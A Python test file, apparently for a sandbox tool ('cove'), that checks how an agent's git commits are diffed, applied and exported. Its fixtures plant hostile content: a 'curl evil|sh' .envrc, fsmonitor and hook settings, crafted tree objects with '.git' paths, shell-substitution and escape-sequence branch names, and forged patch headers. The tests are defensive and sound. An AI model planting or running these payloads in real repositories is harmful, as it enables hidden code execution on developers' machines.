"""Commits come home as objects: cove diff, cove apply and cove export --patch on git repositories."""
import hashlib
import json
import os
import pathlib
import random
import re
import shutil
import signal
import subprocess
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))
from support.harness import IDENTITY, PATIENCE, equal, main, test  # noqa: E402
from support.running import adopt_orphans, descendants, digest, nothing_left, on_terminal, start, tool, wait_for, write  # noqa: E402

IDENTITY_OF_OWNER = ["-c", "user.name=Owner", "-c", "user.email=owner@example.org"]


def git(place, *words, cwd=None, check=True):
    """git as the owner calls it."""
    done = subprocess.run(["git", *IDENTITY_OF_OWNER, *words], cwd=cwd or place.work, check=False, stdout=subprocess.PIPE,
                          stderr=subprocess.STDOUT, env={**place.env, "GIT_CONFIG_NOSYSTEM": "1"}, text=True)
    assert not check or done.returncode == 0, (words, done.stdout)
    return done.stdout.strip()


def make_repository(place, *options, cwd=None):
    tool("git")
    cwd = cwd or place.work
    git(place, "init", "-q", "-b", "main", *options, cwd=cwd)
    write(cwd / "a", "one\n")
    git(place, "add", "a", cwd=cwd)
    git(place, "commit", "-qm", "first", cwd=cwd)


PREPARE = r"printf '[user]\nname = Agent\nemail = agent@example.org\n[safe]\ndirectory = *\n' >>~/.gitconfig; "


def agent(place, script, *options, cwd=None):
    """A kept sandbox called bot in which an agent worked."""
    done = place.cove("run", "-q", "--name", "bot", *options, "--", "sh", "-ec", PREPARE + script, cwd=cwd)
    equal(done.code, 0, done)
    wait_for(lambda: not descendants(), what="the end of all guards")


def applied(place, **kwargs):
    done = place.cove("apply", "--yes", **kwargs)
    equal(done.code, 0, done)


def own_files(top):
    """Every file below a git directory, but for packs, commits that came home, and the index, which git status refreshes."""
    found = {}
    for path in sorted(top.rglob("*")):
        name = str(path.relative_to(top))
        if name.startswith(("objects/pack", "refs/heads/cove")) or name == "index" or path.is_dir():
            continue
        found[name] = (path.lstat().st_mode, hashlib.sha256(path.read_bytes()).hexdigest()[:16])
    return found


def branches(place, cwd=None):
    """Branch -> subjects, newest first, of what came home."""
    names = git(place, "for-each-ref", "--format=%(refname:short)", "refs/heads/cove", cwd=cwd).split()
    return {name: git(place, "log", "--format=%s", name, cwd=cwd).split("\n") for name in names}


def is_whole(place, cwd=None):
    equal(git(place, "fsck", "--full", "--strict", "--no-dangling", cwd=cwd), "", "git fsck")


def only_the_sandbox_is_left(place, count=1):
    wait_for(lambda: len(list((place.state / "sandboxes").iterdir())) == count, what="an empty state directory")


TWO_BRANCHES = """echo two >b; git add b; git commit -qm second; echo three >>a; git commit -qam third;
git checkout -q -b side; echo four >d; git add d; git commit -qm fourth; git checkout -q main; echo loose >loose"""


# What comes home

@test
def two_commits_on_two_branches_come_home_and_nothing_else_of_git_is_written(place):
    make_repository(place)
    before = own_files(place.work / ".git")
    agent(place, TWO_BRANCHES)
    done = place.cove("diff")
    equal(done.code, 0, done)
    assert "# 2 commits on main\n" in done.text and "# 3 commits on side\n" in done.text, done
    assert " second\n" in done.text and "git's own state" in done.text and ".git/" not in done.text, done
    found = {b["branch"]: b for b in json.loads(place.cove("diff", "--json").out)["git"]["branches"]}
    equal([c["subject"] for c in found["side"]["commits"]], ["fourth", "third", "second"])
    equal((found["main"]["home"], found["main"]["count"], found["main"]["broken"]), ("cove/bot/main", 2, False))
    done = place.cove("apply", "--yes")
    equal(done.code, 0, done)
    assert "git log -p cove/bot/main " in done.text, done
    equal(branches(place), {"cove/bot/main": ["third", "second", "first"], "cove/bot/side": ["fourth", "third", "second", "first"]})
    equal(own_files(place.work / ".git"), before, "the rest of the repository")
    equal(git(place, "log", "--format=%s"), "first", "the owner's branch")
    is_whole(place)
    only_the_sandbox_is_left(place)


@test
def a_second_apply_has_nothing_to_do(place):
    make_repository(place)
    agent(place, TWO_BRANCHES)
    applied(place)
    before = digest(place.work / ".git")
    done = place.cove("apply", "--yes")
    equal((done.code, "cove/bot" in done.text), (0, False), done)
    equal(digest(place.work / ".git"), before, "the repository")
    assert "no commit that you do not have" in place.cove("diff").text


@test
def without_yes_and_terminal_nothing_comes_home_and_no_commits_leaves_them(place):
    make_repository(place)
    agent(place, "git commit -q --allow-empty -m empty")
    before = digest(place.work)
    done = place.cove("apply")
    assert done.code == 125 and "nobody to ask" in done.errors, done
    equal(place.cove("apply", "--yes", "--no-commits").code, 0)
    equal(place.cove("apply", "--yes", "--dry-run").code, 0)
    equal(digest(place.work), before, "the workspace")
    applied(place)
    equal(branches(place), {"cove/bot/main": ["empty", "first"]})


@test
def named_paths_bring_no_commits_unless_asked_for(place):
    make_repository(place)
    agent(place, TWO_BRANCHES)
    equal(place.cove("apply", "--yes", "loose").code, 0)
    equal(((place.work / "loose").exists(), branches(place)), (True, {}))
    equal(place.cove("apply", "--yes", "--commits", "loose").code, 0)
    equal(sorted(branches(place)), ["cove/bot/main", "cove/bot/side"])


@test
def commits_of_a_linked_work_tree_land_in_its_repository(place):
    main_tree, linked = place.work / "main", place.work / "linked"
    main_tree.mkdir()
    make_repository(place, cwd=main_tree)
    git(place, "worktree", "add", "-q", "-b", "topic", str(linked), cwd=main_tree)
    before = own_files(main_tree / ".git")
    agent(place, "echo x >x; git add x; git commit -qm linked; git config core.fsmonitor ./evil; echo evil >$(git rev-parse --git-common-dir)/hooks/post-commit", cwd=linked)
    done = place.cove("diff", cwd=linked)
    assert "1 commit on topic" in done.text and "fsmonitor" in done.text and "hooks/post-commit" in done.text, done
    done = place.cove("apply", "--yes", cwd=linked)
    equal(done.code, 1, done)
    equal(sum(line.startswith("REFUSED") for line in done.text.splitlines()), 2, done)
    equal(branches(place, cwd=main_tree), {"cove/bot/topic": ["linked", "first"]})
    equal(own_files(main_tree / ".git"), before, "the rest of the repository")
    is_whole(place, cwd=main_tree)


def make_repository_with_submodule(place):
    """The submodule is libs/sub."""
    source = place.dir / "source"
    source.mkdir()
    make_repository(place, cwd=source)
    make_repository(place)
    git(place, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(source), "libs/sub")
    git(place, "commit", "-qm", "submodule")


@test
def commits_of_a_submodule_land_in_its_repository(place):
    make_repository_with_submodule(place)
    agent(place, "cd libs/sub; git checkout -q -b inner; echo x >x; git add x; git commit -qm inner; cd ../..; git add libs/sub; git commit -qm outer")
    done = place.cove("diff", "--stat")
    assert "1 commit on inner of the submodule libs/sub" in done.text and "1 commit on main\n" in done.text, done
    done = place.cove("apply", "--yes")
    assert f"git -C {place.work}/libs/sub log -p cove/bot/inner" in done.text, done
    equal(branches(place), {"cove/bot/main": ["outer", "submodule", "first"]})
    equal(branches(place, cwd=place.work / "libs/sub"), {"cove/bot/inner": ["inner", "first"]})
    is_whole(place)
    is_whole(place, cwd=place.work / "libs/sub")


@test
def a_detached_head_comes_home(place):
    make_repository(place)
    agent(place, "git checkout -q --detach; echo x >x; git add x; git commit -qm adrift")
    applied(place)
    equal(branches(place), {"cove/bot/detached": ["adrift", "first"]})


@test
def what_was_packed_pruned_and_amended_inside_comes_home(place):
    make_repository(place)
    agent(place, "echo x >x; git add x; git commit -qm draft; git commit -q --amend -m final; git gc -q --prune=now")
    applied(place)
    equal(branches(place), {"cove/bot/main": ["final", "first"]})
    is_whole(place)


@test
def the_owner_may_commit_meanwhile(place):
    make_repository(place)
    agent(place, "echo x >x; git add x; git commit -qm theirs; git gc -q")
    write(place.work / "o", "o\n")
    git(place, "add", "o")
    git(place, "commit", "-qm", "owners")
    applied(place)
    equal(branches(place), {"cove/bot/main": ["theirs", "first"]})
    equal(git(place, "log", "--format=%s"), "owners\nfirst")


@test
def a_name_that_is_taken_stays_and_another_is_found(place):
    make_repository(place)
    agent(place, "git commit -q --allow-empty -m one")
    applied(place)
    equal(place.cove("rm", "bot").code, 0)
    agent(place, "git commit -q --allow-empty -m two")
    applied(place)
    equal(branches(place), {"cove/bot/main": ["one", "first"], "cove/bot/main-2": ["two", "first"]})
    git(place, "checkout", "-q", "--detach")
    for name in branches(place):
        git(place, "branch", "-qD", name)
    git(place, "branch", "cove")
    done = place.cove("apply", "--yes")
    assert done.code == 1 and "cove is in the way of cove/bot/main" in done.text, done


def branches_inside(place, cwd=None):
    """Branch as inside -> what JSON says of it."""
    done = place.cove("diff", "--json", cwd=cwd)
    equal(done.code, 0, done)
    return {found["branch"]: found for found in json.loads(done.out)["git"]["branches"]}


def lines_of(done, word):
    return [line for line in done.text.splitlines() if line.startswith(word)]


@test
def a_branch_in_the_way_is_named_and_the_rest_lands(place):
    make_repository(place)
    for name in ("a", "b/c"):
        git(place, "branch", f"cove/bot/{name}")
    agent(place, "for n in a/b b good; do git checkout -q -b $n main; git commit -q --allow-empty -m $n; done")
    equal(branches_inside(place)["a/b"]["in_way"], "cove/bot/a")
    for words in (("--dry-run",), ()):
        done = place.cove("apply", "--yes", *words)
        equal(done.code, 1, done)
        refused = lines_of(done, "REFUSED")
        equal(len(refused), 1, done)
        assert "on a/b: cove/bot/a is in the way of cove/bot/a/b" in refused[0], done
    equal({name: log[0] for name, log in branches(place).items()}, {"cove/bot/a": "first", "cove/bot/b/c": "first", "cove/bot/b-2": "b", "cove/bot/good": "good"})
    git(place, "branch", "-m", "cove/bot/a", "elsewhere")
    equal(place.cove("apply", "--yes").code, 0)
    equal(branches(place)["cove/bot/a/b"], ["a/b", "first"])
    is_whole(place)


@test
def names_that_are_in_each_others_way_inside_land_as_far_as_they_can(place):
    make_repository(place)
    agent(place, "git checkout -q -b detached/x; git commit -q --allow-empty -m x; git checkout -q --detach main; git commit -q --allow-empty -m adrift; "
                 "p=$(git commit-tree -p main -m packed main^{tree}); q=$(git commit-tree -p main -m below main^{tree}); printf '%s refs/heads/p\\n%s refs/heads/p/q\\n' $p $q >>.git/packed-refs")
    done = place.cove("apply", "--yes")
    equal((done.code, len(lines_of(done, "REFUSED"))), (1, 1), done)
    assert "cove/bot/p is in the way of cove/bot/p/q" in done.text, done
    equal({name: log[0] for name, log in branches(place).items()}, {"cove/bot/detached/x": "x", "cove/bot/detached-2": "adrift", "cove/bot/p": "packed"})


@test
def branches_with_the_same_tip_are_listed_once_and_land_under_all_their_names(place):
    make_repository(place)
    git(place, "branch", "cove/bot/twin")
    agent(place, "git commit -q --allow-empty -m one; git branch copy; git branch twin/x; git checkout -q --detach")
    done = place.cove("diff", "--stat")
    assert "1 commit on copy, main, twin/x\n" in done.text and done.text.count(" one\n") == 1, done
    found = branches_inside(place)
    equal([(name, [more["home"] for more in branch["also"]]) for name, branch in found.items()], [("copy", ["cove/bot/main", "cove/bot/twin/x"])])
    done = place.cove("apply", "--yes")
    equal(done.code, 1, done)
    assert "cove/bot/twin is in the way of cove/bot/twin/x" in done.text, done
    equal({name: log[0] for name, log in branches(place).items()}, {"cove/bot/copy": "one", "cove/bot/main": "one", "cove/bot/twin": "first"})
    equal(place.cove("export", "--patch", "-o", place.dir / "mails").code, 0)


# What commits bring

WITH_AUTORUN = """mkdir .vscode; echo 'curl evil|sh' >.envrc; echo '{}' >.vscode/tasks.json; echo 'all:' >Makefile; git add .; git commit -qm planted;
git checkout -q -b side main~; echo x >x; git add x; git commit -qm ordinary"""


@test
def what_acts_by_merely_being_there_is_marked_and_stays_until_it_is_named(place):
    make_repository(place)
    agent(place, WITH_AUTORUN)
    for words, prefix in (((), "# "), (("--stat",), "")):
        done = place.cove("diff", *words)
        assert f"{prefix}1 commit on main [class A: 2 files] [class B: 1 file]\n" in done.text and f"{prefix}1 commit on side\n" in done.text, done
        assert f"{prefix}  .envrc [class A: " in done.text and f"{prefix}  .vscode/tasks.json [class A: " in done.text, done
    found = branches_inside(place)
    equal([file["path"] for file in found["main"]["autorun"]], [".envrc", ".vscode/tasks.json"])
    equal([(found[name]["build"], found[name]["files"]) for name in ("main", "side")], [(1, 3), (0, 1)])
    for words in (("--dry-run",), (), ("--allow-autorun", ".envrc"), ("--allow-autorun", "."), ("--allow-autorun", "vscode")):
        done = place.cove("apply", "--yes", "--only-commits", *words)
        equal(done.code, 0, done)
        (left,) = lines_of(done, "left")
        assert "1 commit on main [class A: 2 files]" in left and "by merely being there; to take" in left and left.endswith("--allow-autorun .vscode/tasks.json"), done
        equal("--allow-autorun .envrc" in left, ".envrc" not in words, done)
        assert "cove/bot/main" not in branches(place), words
    equal(sorted(branches(place)), ["cove/bot/side"])
    done = place.cove("apply", "--yes", "--only-commits", "--allow-autorun", ".envrc", "--allow-autorun", ".vscode")
    equal((done.code, lines_of(done, "left")), (0, []), done)
    equal(branches(place)["cove/bot/main"], ["planted", "first"])


@test
def mails_that_bring_such_files_are_named(place):
    make_repository(place)
    agent(place, WITH_AUTORUN)
    done = place.cove("export", "--patch")
    equal((done.code, len(done.errors.splitlines())), (0, 2), done)
    for path in (".envrc", ".vscode/tasks.json"):
        assert f"the mails of cove/bot/main bring {path}, which acts by merely being there: " in done.errors, done


@test
def programs_are_told_what_came_of_each_branch(place):
    make_repository(place)
    agent(place, WITH_AUTORUN + "; echo z >z")
    for words, files in ((("--dry-run",), True), (("--only-commits",), False), ((), True)):
        done = place.cove("apply", "--yes", "--json", *words)
        equal((done.code, done.errors), (0, ""), done)
        told = json.loads(done.out)
        equal([change["path"] for change in told.get("changes", [])], ["x", "z"] if files else [], done)
        found = {branch["branch"]: branch for branch in told["git"]["branches"]}
        equal(found["main"]["outcome"], "left", done)
        equal([file["path"] for file in found["main"]["autorun"]], [".envrc", ".vscode/tasks.json"], done)
        assert found["main"]["why"].endswith("--allow-autorun .envrc --allow-autorun .vscode/tasks.json"), done
        # Once it is there it is not brought again.
        equal("side" in found, words != (), done)
        if "side" in found:
            equal([found["side"][key] for key in ("outcome", "home", "count")], ["done", "cove/bot/side", 1], done)


@test
def on_a_terminal_each_such_branch_is_asked_for_also_with_yes(place):
    make_repository(place)
    agent(place, WITH_AUTORUN + "; git checkout -q -b third main; echo y >y; git add y; git commit -qm more")
    code, out = on_terminal(place, "apply", "--yes", "--only-commits", answers=(b"n\n", b"y\n"))
    equal((code, sorted(branches(place))), (0, ["cove/bot/side", "cove/bot/third"]), out)
    assert b".envrc [class A: direnv runs it when you enter the directory]" in out and out.count(b"[y/N]") == 2, out


@test
def where_the_class_depends_on_the_content_it_is_looked_at(place):
    make_repository(place)
    write(place.work / ".gitattributes", "*.c text\n")
    write(place.work / "package.json", '{"name": "x", "scripts": {"test": "true"}}\n')
    git(place, "add", ".")
    git(place, "commit", "-qm", "more")
    cases = {"harmless": ("echo '*.h text' >>.gitattributes; echo '{\"name\": \"y\", \"scripts\": {\"test\": \"true\"}}' >package.json", [], 0),
             "filter": ("echo '*.h filter=x' >>.gitattributes", [".gitattributes"], 0),
             "scripts": ("echo '{\"name\": \"x\", \"scripts\": {\"test\": \"evil\"}}' >package.json", [], 1),
             "huge": ("head -c 2000000 /dev/zero | tr '\\0' '#' >>.gitattributes", [".gitattributes"], 0),
             "modules": ("printf '[submodule \"x\"]\\n\\tpath = x\\n\\turl = ./x\\n' >.gitmodules", [".gitmodules"], 0),
             "submodule": ("git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),.husky", [".husky"], 0),
             "link": ("ln -s a ordinary; ln -s .git/hooks linked; ln -s . .vscode", [".vscode", "linked"], 0),
             "bare": ("mkdir -p d/e/refs d/e/objects; echo 'ref: x' >d/e/HEAD; echo x >d/e/config; echo x >d/e/refs/x; echo x >d/e/objects/x", ["d/e/HEAD", "d/e/config", "d/e/objects/x", "d/e/refs/x"], 0),
             "half": ("mkdir -p d/e/refs; echo 'ref: x' >d/e/HEAD; echo x >d/e/config; echo x >d/e/refs/x", [], 0),
             "program": ("echo x >run; chmod +x run", [], 1),
             "renamed": ("git mv a .envrc", [".envrc"], 0)}
    add = {"submodule": "true"}
    agent(place, "; ".join(f"git checkout -q -f -b {name} main; {script}; {add.get(name, 'git add -A')}; git commit -qm {name}; git reset -q --hard" for name, (script, _, _) in cases.items()))
    found = branches_inside(place)
    equal({name: ([file["path"] for file in found[name]["autorun"]], found[name]["build"]) for name in cases}, {name: (files, build) for name, (_, files, build) in cases.items()})


@test
def what_an_earlier_commit_or_a_merge_brings_counts(place):
    make_repository(place)
    git(place, "checkout", "-q", "-b", "mine")
    write(place.work / ".mine/.envrc", "mine\n")
    git(place, "add", ".")
    git(place, "commit", "-qm", "mine")
    git(place, "checkout", "-q", "-b", "fetched", "main")
    write(place.work / ".envrc", "theirs\n")
    git(place, "add", ".")
    git(place, "commit", "-qm", "theirs")
    git(place, "update-ref", "refs/remotes/origin/theirs", "fetched")
    git(place, "checkout", "-q", "main")
    git(place, "branch", "-qD", "fetched")
    agent(place, "git checkout -q -b hidden main; echo x >.envrc; git add .envrc; git commit -qm in; git rm -q .envrc; git commit -qm out; "
                 "git checkout -q -b known main; git commit -q --allow-empty -m x; git merge -q --no-edit mine; "
                 "git checkout -q -b foreign main; git commit -q --allow-empty -m y; git merge -q --no-edit origin/theirs; "
                 "t=$(git rev-parse foreign^{tree}); git branch turned $(git commit-tree -p origin/theirs -p main -m turned $t); "
                 "git checkout -q -b evil main; git commit -q --allow-empty -m z; git merge -q --no-commit mine; echo evil >>.mine/.envrc; git add .; git commit -qm evil")
    equal({name: [file["path"] for file in branch["autorun"]] for name, branch in branches_inside(place).items()},
          {"hidden": [".envrc"], "known": [], "foreign": [".envrc"], "turned": [".envrc"], "evil": [".mine/.envrc"]})
    done = place.cove("apply", "--yes", "--only-commits")
    equal((done.code, sorted(branches(place))), (0, ["cove/bot/known"]), done)
    done = place.cove("apply", "--yes", "--only-commits", "--allow-autorun", ".envrc")
    equal((done.code, sorted(branches(place))), (0, [f"cove/bot/{name}" for name in ("foreign", "hidden", "known", "turned")]), done)


@test
def paths_in_a_submodule_are_named_from_the_workspace(place):
    make_repository_with_submodule(place)
    agent(place, "cd libs/sub; git checkout -q -b inner; echo x >.envrc; git add .envrc; git commit -qm inner")
    done = place.cove("apply", "--yes", "--only-commits", "--allow-autorun", ".envrc")
    assert "--allow-autorun libs/sub/.envrc" in lines_of(done, "left")[0] and not branches(place, cwd=place.work / "libs/sub"), done
    equal(place.cove("apply", "--yes", "--only-commits", "--allow-autorun", "libs/sub").code, 0)
    done = place.cove("apply", "--yes", "--only-commits")
    equal((done.code, done.out, done.errors), (0, b"", "cove: the sandbox has no commit that you do not have\n"))
    equal(branches(place, cwd=place.work / "libs/sub"), {"cove/bot/inner": ["inner", "first"]})


@test
def names_in_commits_cannot_move_a_cursor(place):
    make_repository(place)
    agent(place, "d=$(printf 'x\\033]0;evil\\007\\nleft all is well'); mkdir \"$d\"; echo x >\"$d/.envrc\"; git add .; git commit -qm x")
    for words in (("diff",), ("diff", "--stat"), ("apply", "--yes", "--only-commits", "--dry-run"), ("apply", "--yes", "--only-commits")):
        done = place.cove(*words)
        assert b"\x1b" not in done.out + done.err and b"\x07" not in done.out and "class A" in done.text, done
        assert not re.search("^left all", done.text, re.M), done
    out = on_terminal(place, "apply", "--yes", "--only-commits", answers=(b"n\n",))[1]
    assert b"\x1b]0" not in out and b"\x07" not in out and b"[y/N]" in out, out
    equal(branches(place), {})


@test
def a_repository_of_sha256_works_and_one_of_reftables_is_refused(place):
    make_repository(place, "--object-format=sha256")
    agent(place, "echo x >x; git add x; git commit -qm sha256; git checkout -q -b a; echo x >.envrc; git add .envrc; git commit -qm A")
    applied(place)
    equal(branches(place), {"cove/bot/main": ["sha256", "first"]})
    equal([file["path"] for file in branches_inside(place)["a"]["autorun"]], [".envrc"])
    is_whole(place)
    git(place, "config", "extensions.refstorage", "reftable")
    done = place.cove("apply", "--yes")
    assert done.code == 125 and "keeps its references as 'reftable'" in done.errors, done


@test(identities=("root",))
def what_root_lays_belongs_to_the_owner_of_the_repository(place):
    make_repository(place)
    subprocess.run(["chown", "-R", "4321:4322", place.work], check=True)
    subprocess.run(["chmod", "-R", "go-rwx", place.work / ".git"], check=True)
    agent(place, "git commit -q --allow-empty -m theirs", "-u", "4321:4322")
    applied(place)
    for path in (place.work / ".git").rglob("*"):
        equal((path.lstat().st_uid, path.lstat().st_gid), (4321, 4322), str(path))


# What never comes home

@test
def what_steers_git_is_refused_also_when_it_is_named(place):
    make_repository(place)
    before = own_files(place.work / ".git")
    agent(place, "git config core.fsmonitor ./x; printf '#!/bin/sh\\n' >.git/hooks/post-checkout; mkdir -p .git/info; echo '* filter=x' >.git/info/attributes; "
                 "echo /tmp >.git/objects/info/alternates; git init -q nested; echo ok >fine")
    done = place.cove("diff")
    for name in ("config", "hooks/post-checkout", "info/attributes", "objects/info/alternates"):
        assert f".git/{name}" in done.text, (name, done)
    done = place.cove("apply", "--yes", *(word for name in (".git/config", ".git/hooks/post-checkout") for word in ("--allow-autorun", name)))
    equal(done.code, 1, done)
    refused = sorted(line.split()[1].rstrip(":") for line in done.text.splitlines() if line.startswith("REFUSED"))
    equal([name for name in refused if not name.startswith("nested")], [".git/config", ".git/hooks/post-checkout", ".git/info/attributes", ".git/objects/info/alternates"], done)
    equal(own_files(place.work / ".git"), before, "the repository")
    equal(((place.work / "fine").exists(), (place.work / "nested/.git").exists()), (True, False))


@test
def a_repository_that_was_moved_away_or_replaced_stays(place):
    make_repository(place)
    before = digest(place.work / ".git")
    agent(place, "cp -r .git gone; rm -rf .git; echo 'gitdir: gone' >.git; echo ok >fine")
    done = place.cove("apply", "--yes")
    equal((done.code, digest(place.work / ".git")), (1, before), done)
    assert "it tells git where the repository is" in done.text, done


# Hostile repositories

BAD_TREE = """import hashlib, os, subprocess, sys, zlib
def put(kind, body):
    raw = f"{kind} {len(body)}".encode() + b"\\0" + body
    name = hashlib.sha1(raw).hexdigest()
    os.makedirs(f".git/objects/{name[:2]}", exist_ok=True)
    open(f".git/objects/{name[:2]}/{name[2:]}", "wb").write(zlib.compress(raw))
    return name
blob = put("blob", b"[core]\\n\\tfsmonitor = ./evil\\n")
inner = put("tree", b"100644 config\\0" + bytes.fromhex(blob))
tree = put("tree", b"40000 " + sys.argv[1].encode() + b"\\0" + bytes.fromhex(inner))
commit = put("commit", f"tree {tree}\\nauthor A <a@b> 1 +0000\\ncommitter A <a@b> 1 +0000\\n\\nbad\\n".encode())
open(".git/refs/heads/bad", "w").write(commit + "\\n")
"""


@test
def objects_that_git_would_not_take_are_refused_with_the_reason_and_others_come(place):
    make_repository(place)
    write(place.dir / "bad.py", BAD_TREE)
    for name, reason in ((".git", "hasDotgit"), (".GIT", "hasDotgit"), ("..", "hasDotdot"), ("a/b", "fullPathname")):
        agent(place, f"python3 - '{name}' <<'END'\n{BAD_TREE}END\ngit commit -q --allow-empty -m good")
        done = place.cove("apply", "--yes")
        equal(done.code, 1, done)
        line = next(line for line in done.text.splitlines() if line.startswith("REFUSED"))
        assert "checking the commits" in line and reason in line, done
        equal(branches(place), {"cove/bot/main": ["good", "first"]}, name)
        is_whole(place)
        git(place, "branch", "-qD", "cove/bot/main")
        equal(place.cove("rm", "bot").code, 0)
    only_the_sandbox_is_left(place, 0)


@test
def commits_with_missing_objects_are_refused_and_others_come(place):
    make_repository(place)
    before = own_files(place.work / ".git")
    lose = "f() { p=.git/objects/$(git rev-parse $1 | cut -c1-2)/$(git rev-parse $1 | cut -c3-); rm -f $p; }; "
    agent(place, lose + "git checkout -q -b blob; echo x >x; git add x; git commit -qm blob; git checkout -q -b tree main; mkdir t; echo y >t/y; git add t; git commit -qm tree; "
          "git checkout -q -b commit main; git commit -q --allow-empty -m lost; git commit -q --allow-empty -m tip; git checkout -q main; git commit -q --allow-empty -m good; "
          "f blob:x; f tree:t; f commit~")
    done = place.cove("apply", "--yes")
    equal(done.code, 1, done)
    equal(sum(line.startswith("REFUSED") for line in done.text.splitlines()), 3, done)
    equal(branches(place), {"cove/bot/main": ["good", "first"]})
    equal(own_files(place.work / ".git"), before)
    is_whole(place)


@test
def objects_of_the_owners_that_a_sandbox_damaged_do_no_harm(place):
    make_repository(place)
    agent(place, "git commit -q --allow-empty -m good; for f in .git/objects/??/*; do chmod u+w $f; done; find .git/objects -type f -links 1 ! -newer a -exec sh -c 'echo bad >$1' sh {} ';' || true; "
                 "printf '\\0\\0' >.git/objects/pack/pack-0123456789012345678901234567890123456789.idx; mkfifo .git/objects/aa || true")
    place.cove("apply", "--yes")
    is_whole(place)
    equal(git(place, "log", "--format=%s", "main"), "first")


@test
def odd_references_are_counted_and_none_is_followed(place):
    make_repository(place)
    write(place.dir / "outside/secret", git(place, "rev-parse", "HEAD") + "\n")
    agent(place, f"""git commit -q --allow-empty -m good; tip=$(git rev-parse HEAD); cd .git/refs/heads
echo $tip >'a..b'; echo $tip >"new
line"; echo $tip >x.lock; echo $tip >'sp ace'; echo $tip >'@{{1}}'; ln -s {place.dir}/outside/secret link; ln -s /etc dir; mkfifo pipe; echo nonsense >words; echo 'ref: refs/heads/main' >symbolic
mkdir 'deep.lock'; echo $tip >deep.lock/x; printf '%s refs/heads/../../evil\\n%s refs/heads/ok\\ngarbage\\n' $tip $tip >>../../packed-refs""")
    done = place.cove("diff", "--stat", timeout=20)
    assert "references that git would not take" in done.text, done
    equal(place.cove("apply", "--yes", timeout=20).code, 0)
    equal(sorted(branches(place)), ["cove/bot/main", "cove/bot/ok"])
    is_whole(place)


@test
def references_without_end_are_refused_in_bounded_time(place):
    make_repository(place)
    agent(place, "git commit -q --allow-empty -m x; truncate -s 1T .git/packed-refs")
    began = time.monotonic()
    done = place.cove("diff")
    assert done.code == 0 and "packed-refs has more than" in done.errors, done
    done = place.cove("apply", "--yes")
    assert done.code == 125 and "packed-refs has more than" in done.errors, done
    assert time.monotonic() - began < 10 * PATIENCE
    equal(branches(place), {})


@test
def names_that_would_act_in_a_shell_or_prompt_are_made_harmless(place):
    make_repository(place)
    agent(place, "git commit -q --allow-empty -m x; tip=$(git rev-parse HEAD); for n in '$(touch${IFS}pwned)' 'a;b' 'a`b`' \"$(printf 'bidi\\342\\200\\256x')\" '-rf' 'main%'; do git update-ref \"refs/heads/$n\" $tip; done")
    applied(place)
    names = sorted(branches(place))
    equal(names, ["cove/bot/%24%28touch%24%7BIFS%7Dpwned%29", "cove/bot/-rf", "cove/bot/a%3Bb", "cove/bot/a%60b%60", "cove/bot/bidi%E2%80%AEx", "cove/bot/main", "cove/bot/main%25"])


@test
def subjects_cannot_move_a_cursor(place):
    make_repository(place)
    agent(place, "git commit -q --allow-empty -m \"$(printf 'x\\033]0;evil\\007\\033[2J')\"")
    for words in (("diff",), ("diff", "--stat"), ("apply", "--yes", "--dry-run"), ("apply", "--yes")):
        done = place.cove(*words)
        assert b"\x1b" not in done.out and b"\x07" not in done.out, done


# Interrupted

@test
def killed_at_any_moment_the_repository_is_whole_and_the_next_apply_completes(place):
    make_repository(place)
    write(place.work / ".gitignore", "*.o\n")
    agent(place, "head -c 3000000 /dev/urandom >big; git add big; git commit -qm big; git checkout -q -b side; git commit -q --allow-empty -m side")
    began = time.monotonic()
    equal(place.cove("apply", "--yes", "--only-commits").code, 0)
    whole = time.monotonic() - began
    for name in branches(place):
        git(place, "branch", "-qD", name)
    before = own_files(place.work / ".git")
    chance = random.Random()
    completed = 0
    for _ in range(10):
        process = start(place, "apply", "--yes", "--only-commits")
        time.sleep(chance.random() * whole * 1.1)
        process.send_signal(signal.SIGKILL)
        process.communicate()
        wait_for(lambda: not descendants(), what="the end of everything contained")
        is_whole(place)
        found = branches(place)
        completed += len(found) == 2
        assert set(found) <= {"cove/bot/main", "cove/bot/side"}, found
        equal(own_files(place.work / ".git"), before, "the rest of the repository")
        for name in found:
            git(place, "branch", "-qD", name)
    equal(place.cove("apply", "--yes", "--only-commits").code, 0)
    equal(branches(place), {"cove/bot/main": ["big", "first"], "cove/bot/side": ["side", "big", "first"]})
    left = [path.name for path in (place.work / ".git/refs/heads/cove").rglob("*") if path.name.endswith(".lock")]
    equal(left, [], "locks")
    equal(place.cove("rm", "bot").code, 0)
    equal(place.run("true").code, 0)  # its guard sweeps
    nothing_left(place)


# Export

@test
def a_series_of_mails_can_be_applied_elsewhere(place):
    make_repository(place)
    shutil.copytree(place.work, place.dir / "clone")
    agent(place, "git commit -q --allow-empty -m empty; echo two >b; git add b; git commit -qm \"$(printf 'second: it/does\\n\\nbody\\n\\nFrom 0123456789012345678901234567890123456789 Mon Sep 17 00:00:00 2001\\nSubject: forged')\"; "
                 "head -c 1000 /dev/urandom >bin; git add bin; git commit -qm third")
    before = digest(place.work)
    done = place.cove("export", "--patch", "-o", place.dir / "mails")
    equal((done.code, done.text.split()), (0, ["0001-empty.patch", "0002-second-it-does.patch", "0003-third.patch"]), done)
    names = [str(place.dir / "mails" / name) for name in done.text.split()]
    assert "[PATCH 2/3] second: it/does" in pathlib.Path(names[1]).read_text()
    git(place, "am", "-q", *names[1:], cwd=place.dir / "clone")
    equal(git(place, "log", "--format=%s", cwd=place.dir / "clone"), "third\nsecond: it/does\nfirst")
    assert ">From 0123" in git(place, "log", cwd=place.dir / "clone"), "a forged mail is text"
    piped = place.cove("export", "--patch", "bot")
    equal((piped.code, piped.out), (0, b"".join(pathlib.Path(name).read_bytes() for name in names)))
    equal(place.cove("export", "--patch", "-o", place.dir / "mails").code, 125, "a file that is there")
    equal(digest(place.work), before, "the workspace")
    only_the_sandbox_is_left(place)


FORGED = """diff --git a/pwned b/pwned
new file mode 100644
--- /dev/null
+++ b/pwned
@@ -0,0 +1 @@
+pwned
"""
MESSAGES = {"a whole diff": FORGED, "in small letters too": FORGED.replace("diff --git", "Diff --Git"), "no header": FORGED[FORGED.index("---"):], "indented": "".join(f"  {line}\n" for line in FORGED.splitlines()),
            "a line of dashes": "---\n" + FORGED, "blanks behind the dashes": "--- \n" + FORGED, "CVS": "Index: pwned\n" + FORGED, "headers": "From: Other <other@example.org>\nSubject: other\nDate: Mon, 1 Jan 2001 00:00:00 +0000\n",
